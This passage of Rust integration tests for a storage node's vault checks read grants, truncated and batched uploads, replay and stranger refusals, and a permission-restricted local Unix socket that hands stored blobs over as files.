        .post(format!("{rpc}/v1/items/{item}/grants"))
        .header("Authorization", &bearer)
        .send_json(serde_json::json!({"account": reader.address(), "level": "read", "expires_in": u64::MAX}))
        .expect("http");
    assert_eq!(r.status().as_u16(), 400);
    let body: Value = r.body_mut().read_json().expect("json");
    assert!(
        body["error"]["message"]
            .as_str()
            .is_some_and(|m| m.contains("expires_in")),
        "{body}"
    );
    let r = agent
        .post(format!("{rpc}/v1/items/{item}/grants"))
        .header("Authorization", &bearer)
        .send_json(serde_json::json!({"account": reader.address(), "level": "read"}))
        .expect("http");
    assert_eq!(r.status().as_u16(), 200);
    let out = dir.path().join("granted");
    ok_json(&vault(
        &rpc,
        reader,
        &["get", &item, "-o", out.to_str().expect("utf-8")],
    ));
    assert!(std::fs::read(&out).ok() == Some(content.clone()));
    let r = agent
        .delete(format!("{rpc}/v1/items/{item}/grants/{}", reader.address()))
        .header("Authorization", &bearer)
        .call()
        .expect("http");
    assert_eq!(r.status().as_u16(), 200);
    failed_with(
        &vault(
            &rpc,
            reader,
            &["get", &item, "-o", out.to_str().expect("utf-8")],
        ),
        "not found",
    );

    // A truncated upload: 400, and no sealed chunk of it stays behind.
    let blobs_before = walk(&data.join("vault")).len();
    {
        use std::io::{Read, Write};
        let addr = rpc.trim_start_matches("http://");
        let mut stream = std::net::TcpStream::connect(addr).expect("connect");
        let head = format!(
            "POST /v1/files?name=cut.bin HTTP/1.1\r\nHost: {addr}\r\nAuthorization: {bearer}\r\nContent-Length: 5000000\r\nConnection: close\r\n\r\n"
        );
        stream.write_all(head.as_bytes()).expect("write head");
        stream
            .write_all(&vec![0x42u8; 2_500_000])
            .expect("write half");
        stream
            .shutdown(std::net::Shutdown::Write)
            .expect("shutdown");
        let mut answer = String::new();
        let _ = stream.read_to_string(&mut answer);
        assert!(
            answer.starts_with("HTTP/1.1 400") || answer.is_empty(),
            "truncated upload answered: {}",
            answer.lines().next().unwrap_or_default()
        );
    }
    std::thread::sleep(Duration::from_millis(500));
    let blobs_after = walk(&data.join("vault")).len();
    assert_eq!(
        blobs_before, blobs_after,
        "a failed upload left sealed chunks behind"
    );
}

/// `PUT /v1/raw/{item}/batch` as `who` signed for `list` (`signed_list`, when given, is what
/// the signature covers instead), with `frames` after the list. Returns (status, body).
fn batch_put(
    rpc: &str,
    node_id: &str,
    who: &PrivateKeySigner,
    item: [u8; 32],
    list: &[u8],
    signed_list: Option<&[u8]>,
    frames: &[u8],
) -> (u16, String, String) {
    let signed = blake3::hash(signed_list.unwrap_or(list));
    let auth = SignedRequest::sign(
        who,
        RequestKind::Put,
        item,
        ObjectRef::Batch(*signed.as_bytes()),
        node_id.to_string(),
    )
    .to_header();
    let (status, body) = batch_put_as(rpc, item, &auth, list, frames);
    (status, body, auth)
}

fn batch_put_as(
    rpc: &str,
    item: [u8; 32],
    auth: &str,
    list: &[u8],
    frames: &[u8],
) -> (u16, String) {
    let mut body = lightstreams_network::batch::upload_prefix(list);
    body.extend_from_slice(frames);
    let agent = http_agent();
    let mut response = agent
        .put(format!("{rpc}/v1/raw/0x{}/batch", hex::encode(item)))
        .header("Authorization", auth)
        .send(&body[..])
        .expect("http");
    let status = response.status().as_u16();
    (
        status,
        response.body_mut().read_to_string().unwrap_or_default(),
    )
}

/// One `HERE` frame per object.
fn frames(objects: &[&[u8]]) -> Vec<u8> {
    let mut out = Vec::new();
    for object in objects {
        out.extend_from_slice(&lightstreams_network::batch::frame_header(Some(
            object.len(),
        )));
        out.extend_from_slice(object);
    }
    out
}

fn chunk_list(objects: &[&[u8]]) -> Vec<u8> {
    let names: Vec<(&'static str, String)> = objects
        .iter()
        .map(|o| ("chunks", format!("0x{}", blake3::hash(o).to_hex())))
        .collect();
    lightstreams_network::batch::encode_request(&names)
}

#[test]
fn batch_uploads_stream_and_are_enforced() {
    let _serial = serial();
    let dir = tempdir("vault-batch-put");
    let (node, data) = start(dir.path());
    let rpc = node.rpc.url.clone();
    let accounts = dev_accounts(3);
    let (alice, carol) = (&accounts[0], &accounts[2]);
    let alice_client = library_client(&rpc, alice);
    let node_id = HttpRemote::connect(&rpc).expect("connect").node_id();

    // A multi-chunk file goes up in batches and reads back intact; no plaintext on disk.
    let (marker, file) = marked_file(
        &dir.path().join("big.bin"),
        3 * lightstreams_vault::CHUNK_SIZE + 12345,
    );
    let content = lightstreams_access::protocol::Content {
        name: "big.bin".into(),
        media_type: "application/octet-stream".into(),
    };
    let published = alice_client
        .add(&file[..], &content, false, |_| {})
        .expect("batched add");
    assert_eq!(published.chunks, 4);
    let mut back = Vec::new();
    alice_client
        .get(published.item, None, None, &mut back, |_| {})
        .expect("get");
    assert!(back == file, "the batched upload reads back intact");
    assert_no_marker(&data, &marker);
    let item = published.item.0;

    let a: Vec<u8> = (0..5000u32).map(|i| (i % 251) as u8).collect();
    let b: Vec<u8> = (0..7000u32).map(|i| (i % 241) as u8).collect();
    let stored = |bytes: &[u8]| {
        let object = ObjectRef::Chunk(*blake3::hash(bytes).as_bytes());
        let auth = SignedRequest::sign(
            alice,
            RequestKind::Get,
            item,
            object.clone(),
            node_id.clone(),
        );
        raw_get(&rpc, &item, &object, Some(&auth.to_header())).0 == 200
    };

    // Refusals get the uniform not-found and store nothing: a stranger (no WRITE), a list
    // other than the one signed, a replayed request.
    let list = chunk_list(&[&a, &b]);
    let body = frames(&[&a, &b]);
    let (status, text, _) = batch_put(&rpc, &node_id, carol, item, &list, None, &body);
    assert_eq!((status, text.as_str()), (404, NOT_FOUND), "stranger");
    let other = chunk_list(&[&b]);
    let (status, text, _) = batch_put(&rpc, &node_id, alice, item, &list, Some(&other), &body);
    assert_eq!((status, text.as_str()), (404, NOT_FOUND), "another list");
    assert!(!stored(&a) && !stored(&b), "refused uploads store nothing");

    // Alice's batch: stored, readable; the same request again is a replay.
    let (status, text, auth) = batch_put(&rpc, &node_id, alice, item, &list, None, &body);
    assert_eq!(status, 204, "{text}");
    assert!(stored(&a) && stored(&b));
    let (status, text) = batch_put_as(&rpc, item, &auth, &list, &body);
    assert_eq!((status, text.as_str()), (404, NOT_FOUND), "replay");

    // Bad uploads: a 400 naming the problem, and nothing of the batch remains.
    let c: Vec<u8> = (0..3000u32).map(|i| (i % 239) as u8).collect();
    let d: Vec<u8> = (0..3000u32).map(|i| (i % 233) as u8).collect();
    let list = chunk_list(&[&c, &d]);
    let cases: [(&str, Vec<u8>, &str); 4] = [
        ("a wrong object", frames(&[&c, &a]), "object 1 hashes to"),
        (
            "a cut body",
            frames(&[&c, &d])[..4000].to_vec(),
            "ends inside object 1",
        ),
        (
            "trailing bytes",
            [frames(&[&c, &d]), b"extra".to_vec()].concat(),
            "bytes follow the last object",
        ),
        (
            "an absent frame",
            [
                frames(&[&c]),
                lightstreams_network::batch::frame_header(None).to_vec(),
            ]
            .concat(),
            "sent as absent",
        ),
    ];
    for (what, body, expect) in cases {
        let (status, text, _) = batch_put(&rpc, &node_id, alice, item, &list, None, &body);
        assert_eq!(status, 400, "{what}: {text}");
        assert!(text.contains(expect), "{what}: {text}");
        assert!(
            !stored(&c) && !stored(&d),
            "{what}: nothing of the batch stays"
        );
    }
    // Only chunks and manifests travel in batches.
    let envelopes = lightstreams_network::batch::encode_request(&[(
        "envelopes",
        format!("0x{}", hex::encode([1u8; 32])),
    )]);
    let (status, text, _) = batch_put(
        &rpc,
        &node_id,
        alice,
        item,
        &envelopes,
        None,
        &frames(&[&c]),
    );
    assert_eq!(status, 400, "{text}");
    assert!(text.contains("chunks or manifests only"), "{text}");
    // A malformed list: 400.
    let (status, text, _) = batch_put(&rpc, &node_id, alice, item, b"no slash here", None, &[]);
    assert_eq!(status, 400, "{text}");

    // Batch reads over the node's vault stream (the client's downloads above used it): Alice's
    // signed batch is served; a replay, a stranger and a list other than the one signed get
    // the one not-found status.
    let facts: Value = ureq::get(format!("{rpc}/v1"))
        .call()
        .expect("/v1")
        .body_mut()
        .read_json()
        .expect("json");
    let port = u16::try_from(facts["stream_port"].as_u64().expect("stream_port")).expect("port");
    let list = chunk_list(&[&a, &b]);
    // A batch request signed by `who` for the list `signed`, and a request (with any objects
    // after it) sent to the stream, the answer read until the node closes.
    let batch_auth = |kind: RequestKind, who: &PrivateKeySigner, signed: &[u8]| {
        SignedRequest::sign(
            who,
            kind,
            item,
            ObjectRef::Batch(*blake3::hash(signed).as_bytes()),
            node_id.clone(),
        )
        .to_header()
    };
    let send = |write: bool, header: &str, list: &[u8], objects: &[u8]| {
        let mut wire = Vec::new();
        lightstreams_network::stream::write_request(
            &mut wire,
            &lightstreams_network::stream::Request {
                write,
                item,
                header: header.to_string(),
                list: list.to_vec(),
            },
        )
        .expect("encode");
        wire.extend_from_slice(objects);
        util::stream_ask(port, &wire)
    };
    let read_auth =
        |who: &PrivateKeySigner, signed: &[u8]| batch_auth(RequestKind::Get, who, signed);
    let ask = |header: &str, list: &[u8]| send(false, header, list, &[]);
    let auth = read_auth(alice, &list);
    let answer = ask(&auth, &list);
    let mut expected = vec![lightstreams_network::stream::OK];
    expected.extend_from_slice(&frames(&[&a, &b]));
    assert!(
        answer == expected,
        "alice's streamed batch: both chunks, in order"
    );
    let refused = vec![lightstreams_network::stream::NOT_FOUND];
    assert_eq!(ask(&auth, &list), refused, "replayed");
    assert_eq!(ask(&read_auth(carol, &list), &list), refused, "stranger");
    assert_eq!(
        ask(&read_auth(alice, &chunk_list(&[&a])), &list),
        refused,
        "a list other than the one signed"
    );

    // Uploads over the vault stream (the client's add above used it): the list is checked
    // before any object is sent; a refusal is the one not-found status, a bad upload a message
    // naming what is wrong, and either way nothing of the batch stays.
    use lightstreams_network::stream::{BAD, OK};
    let put_auth =
        |who: &PrivateKeySigner, signed: &[u8]| batch_auth(RequestKind::Put, who, signed);
    let put = |header: &str, list: &[u8], objects: &[u8]| send(true, header, list, objects);
    let e: Vec<u8> = (0..4000u32).map(|i| (i % 229) as u8).collect();
    let f: Vec<u8> = (0..6000u32).map(|i| (i % 227) as u8).collect();
    let list = chunk_list(&[&e, &f]);
    let body = frames(&[&e, &f]);
    assert_eq!(
        put(&put_auth(carol, &list), &list, &body),
        refused,
        "stranger"
    );
    assert_eq!(
        put(&put_auth(alice, &chunk_list(&[&e])), &list, &body),
        refused,
        "a list other than the one signed"
    );
    assert!(!stored(&e) && !stored(&f), "refused uploads store nothing");
    let auth = put_auth(alice, &list);
    assert_eq!(put(&auth, &list, &body), vec![OK, OK], "alice's upload");
    assert!(
        stored(&e) && stored(&f),
        "alice's streamed upload is stored"
    );
    assert_eq!(put(&auth, &list, &body), refused, "replayed");
    let g: Vec<u8> = (0..3000u32).map(|i| (i % 223) as u8).collect();
    let h: Vec<u8> = (0..3000u32).map(|i| (i % 211) as u8).collect();
    let list = chunk_list(&[&g, &h]);
    let cases: [(&str, Vec<u8>, &str); 3] = [
        ("a wrong object", frames(&[&g, &a]), "object 1 hashes to"),
        (
            "a cut upload",
            frames(&[&g, &h])[..4000].to_vec(),
            "ends inside object 1",
        ),
        (
            "an absent frame",
            [
                frames(&[&g]),
                lightstreams_network::batch::frame_header(None).to_vec(),
            ]
            .concat(),
            "sent as absent",
        ),
    ];
    for (what, body, expect) in cases {
        let answer = put(&put_auth(alice, &list), &list, &body);
        assert_eq!(answer.get(..2), Some(&[OK, BAD][..]), "{what}");
        let message = String::from_utf8_lossy(answer.get(4..).unwrap_or_default());
        assert!(message.contains(expect), "{what}: {message}");
        assert!(
            !stored(&g) && !stored(&h),
            "{what}: nothing of the streamed batch stays"
        );
    }
    let answer = put(&put_auth(alice, b"no slash"), b"no slash", &[]);
    assert_eq!(answer.first(), Some(&BAD), "a malformed list");
}

/// What the local stream answered: the status, the frames read (each object's bytes, and
/// whether it came as a file), and the rest until the node closed.
type LocalAnswer = (u8, Vec<(Vec<u8>, bool)>, Vec<u8>);

/// Send `wire` to the local stream at `path`, close the sending side, and read the status and
/// then, after `OK`, `frames` frames.
fn local_ask(path: &Path, wire: &[u8], frames: usize) -> LocalAnswer {
    use lightstreams_network::local::{Frame, read_frame_as};
    use std::io::{Read, Write};
    let mut conn = std::os::unix::net::UnixStream::connect(path).expect("connect");
    conn.set_read_timeout(Some(Duration::from_secs(30)))
        .expect("timeout");
    conn.write_all(wire).expect("send");
    conn.shutdown(std::net::Shutdown::Write).expect("shutdown");
    let mut status = [0u8];
    conn.read_exact(&mut status).expect("status");
    let mut got = Vec::new();
    if status[0] == lightstreams_network::stream::OK {
        for _ in 0..frames {
            let mut buf = Vec::new();
            let how = read_frame_as(&conn, 1 << 30, &mut buf).expect("frame");
            got.push((buf, how == Frame::File));
        }
    }
    let mut rest = Vec::new();
    conn.read_to_end(&mut rest).expect("rest");
    (status[0], got, rest)
}

/// Clients on the node's machine read through its local stream (a Unix-domain socket), which
/// hands each stored blob over as an open file instead of sending its bytes: the node says
/// where it is only to such clients (not to web pages), keeps it to its own user, checks every
/// request as the TCP stream does and refuses with the same one byte; uploads over it are
/// checked and stored as over TCP. The CLI's add and get go through it, and through TCP with
/// `LIGHTSTREAMS_LOCAL_STREAM=off`, with the same bytes back.
#[test]
fn the_local_stream_hands_blobs_over_as_files() {
    use lightstreams_network::stream::{BAD, NOT_FOUND, OK, Request, write_request};
    use std::os::unix::fs::{FileTypeExt, PermissionsExt};
    let _serial = serial();
    let dir = tempdir("vault-local");
    let (node, data) = start(dir.path());
    let rpc = node.rpc.url.clone();
    let accounts = dev_accounts(3);
    let (alice, carol) = (&accounts[0], &accounts[2]);
    let remote = HttpRemote::connect(&rpc).expect("connect");
    let node_id = remote.node_id();

    // Where it is: told to a client on this machine, not to a web page.
    let info = |origin: Option<&str>| -> Value {
        let mut request = ureq::get(format!("{rpc}/v1"));
        if let Some(origin) = origin {
            request = request.header("Origin", origin);
        }
        request
            .call()
            .expect("/v1")
            .body_mut()
            .read_json()
            .expect("json")
    };
    let path = PathBuf::from(info(None)["local_stream"].as_str().expect("announced"));
    assert_eq!(
        path.canonicalize().expect("exists"),
        data.join("vault.sock")
            .canonicalize()
            .expect("in the data dir")
    );
    assert_eq!(remote.local_stream(), Some(path.as_path()));
    let meta = std::fs::symlink_metadata(&path).expect("stat");
    assert!(meta.file_type().is_socket());
    assert_eq!(
        meta.permissions().mode() & 0o777,
        0o600,
        "the node's user only"
    );
    assert!(
        info(Some("https://example.com"))["local_stream"].is_null(),
        "not told to a web page"
    );

    // The CLI adds and gets through it, and through TCP with it turned off; no plaintext on
    // disk either way.
    let input = dir.path().join("clip.bin");
    let (marker, bytes) = marked_file(&input, 2 * lightstreams_vault::CHUNK_SIZE + 999);
    let added = ok_json(&vault(
        &rpc,
        alice,
        &["add", input.to_str().expect("utf-8")],
    ));
    let item_text = added["item"].as_str().expect("item").to_string();
    for local in ["on", "off"] {
        let out = dir.path().join(format!("back-{local}"));
        let got = Command::new(exe())
            .args([
                "vault",
                "get",
                &item_text,
                "-o",
                out.to_str().expect("utf-8"),
            ])
            .args(["--json", "--rpc", &rpc, "--private-key", &key_hex(alice)])
            .env("LIGHTSTREAMS_LOCAL_STREAM", local)
            .env_remove("LIGHTSTREAMS_ACCOUNT")
            .env_remove("LIGHTSTREAMS_PRIVATE_KEY")
            .output()
            .expect("run lightstreams vault get");
        ok_json(&got);
        assert!(
            std::fs::read(&out).ok() == Some(bytes.clone()),
            "local stream {local}"
        );
    }
    assert_no_marker(&data, &marker);

    // Requests as on the TCP stream: an upload of two chunks, then a batch read of them.
    let item: ItemId = item_text.parse().expect("item id");
    let item = item.0;
    let a: Vec<u8> = (0..5000u32).map(|i| (i % 251) as u8).collect();
    let b: Vec<u8> = (0..7000u32).map(|i| (i % 241) as u8).collect();
    let list = chunk_list(&[&a, &b]);
    let auth = |kind: RequestKind, who: &PrivateKeySigner, signed: &[u8]| {
        SignedRequest::sign(
            who,
            kind,
            item,
            ObjectRef::Batch(*blake3::hash(signed).as_bytes()),
            node_id.clone(),
        )
        .to_header()
    };
    let wire = |write: bool, header: &str, list: &[u8], objects: &[u8]| {
        let mut wire = Vec::new();
        let request = Request {
            write,
            item,
            header: header.to_string(),
            list: list.to_vec(),
        };
        write_request(&mut wire, &request).expect("encode");
        wire.extend_from_slice(objects);
        wire
    };
    let body = frames(&[&a, &b]);
    let (status, _, rest) = local_ask(
        &path,
        &wire(true, &auth(RequestKind::Put, carol, &list), &list, &body),
        0,
    );
    assert_eq!((status, rest), (NOT_FOUND, vec![]), "a stranger's upload");
    let (status, _, rest) = local_ask(
        &path,
        &wire(true, &auth(RequestKind::Put, alice, &list), &list, &body),
        0,
    );
    assert_eq!((status, rest), (OK, vec![OK]), "alice's upload");

    let read = auth(RequestKind::Get, alice, &list);
    let (status, got, rest) = local_ask(&path, &wire(false, &read, &list, &[]), 2);
    assert_eq!(status, OK);
    assert!(
        got == vec![(a.clone(), true), (b.clone(), true)],
        "both chunks, in order, each as its file"
    );
    assert!(rest.is_empty(), "{} bytes after the frames", rest.len());
    // Refusals: the one byte the TCP stream answers, and nothing else.
    let tcp_port = u16::try_from(info(None)["stream_port"].as_u64().expect("port")).expect("port");
    let stranger = auth(RequestKind::Get, carol, &list);
    let tcp_refusal = util::stream_ask(tcp_port, &wire(false, &stranger, &list, &[]));
    assert_eq!(tcp_refusal, vec![NOT_FOUND]);
    for (what, header, asked) in [
        ("replayed", read.clone(), list.clone()),
        ("a stranger", stranger.clone(), list.clone()),
        (
            "a list other than the one signed",
            auth(RequestKind::Get, alice, &chunk_list(&[&a])),
            list.clone(),
        ),
        (
            "unsigned",
            "Lightstreams-Sig v1 ts=1,nonce=2,sig=0x00".to_string(),
            list.clone(),
        ),
    ] {
        let (status, _, rest) = local_ask(&path, &wire(false, &header, &asked, &[]), 0);
        assert_eq!(
            [vec![status], rest].concat(),
            tcp_refusal,
            "{what}: the uniform refusal"
        );
    }
    // Garbage: named, and the node goes on serving.
    let (status, _, rest) = local_ask(&path, b"GET / HTTP/1.1\r\n\r\n", 0);
    assert_eq!(status, BAD);
    assert!(
        String::from_utf8_lossy(&rest).contains("LSV1"),
        "names what it expects"
    );
    let read = auth(RequestKind::Get, alice, &list);
    let (status, got, _) = local_ask(&path, &wire(false, &read, &list, &[]), 2);
    assert_eq!((status, got.len()), (OK, 2), "still serving");
}
